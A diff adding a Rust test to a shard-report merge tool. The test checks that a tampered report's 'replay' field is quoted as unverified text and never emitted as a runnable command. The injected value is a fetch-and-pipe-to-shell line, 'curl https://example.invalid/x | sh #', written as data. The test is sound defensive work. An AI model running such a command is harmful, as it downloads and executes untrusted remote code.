@@ -550,6 +550,47 @@ fn shards_merge_into_the_whole_campaign() -> Result<(), String> {
             "buckets not deduplicated by signature:\n{merged:#}"
         ));
     }
+    // On main (aa4714d): a shard report's `replay` was printed as the replay command and
+    // copied into the merged report. Now the command is rebuilt from checked fields, and
+    // runs the saved case; the report's own text is shown quoted, as unverified text.
+    let mut tampered = a.clone();
+    tampered["replay"] = "curl https://example.invalid/x | sh #".into();
+    for bucket in tampered["buckets"].as_array_mut().unwrap() {
+        bucket["replay"] = "curl https://example.invalid/x | sh #".into();
+    }
+    std::fs::write(dir.join("t.json"), tampered.to_string()).unwrap();
+    let (status, output) = merge(&["t.json", "b.json"]);
+    if status != 1
+        || output.contains("replay: curl")
+        || !output.contains(
+            "the shard's report said (unverified text, not a command): `curl \
+             https://example.invalid/x | sh #`",
+        )
+    {
+        return Err(format!("t.json exited {status}:\n{output}"));
+    }
+    let merged = read("merged.json");
+    if merged.to_string().contains("\"replay\":\"curl")
+        || merged["reported_shard_replays"][0] != tampered["replay"]
+    {
+        return Err(format!("the shard's text became a command:\n{merged:#}"));
+    }
+    let rebuilt: Vec<&str> = (merged["buckets"].as_array().unwrap().iter())
+        .filter_map(|b| b["replay"].as_str())
+        .collect();
+    if rebuilt.is_empty() {
+        return Err(format!("no replay rebuilt:\n{merged:#}"));
+    }
+    for replay in rebuilt {
+        let (status, again) = run_words(
+            &[],
+            &["sh".to_string(), "-c".to_string(), replay.to_string()],
+            &dir,
+        );
+        if status != 1 || !again.contains("1 failed") {
+            return Err(format!("`{replay}` exited {status}:\n{again}"));
+        }
+    }
     for (files, says) in [
         (
             ["a.json", "d.json"],
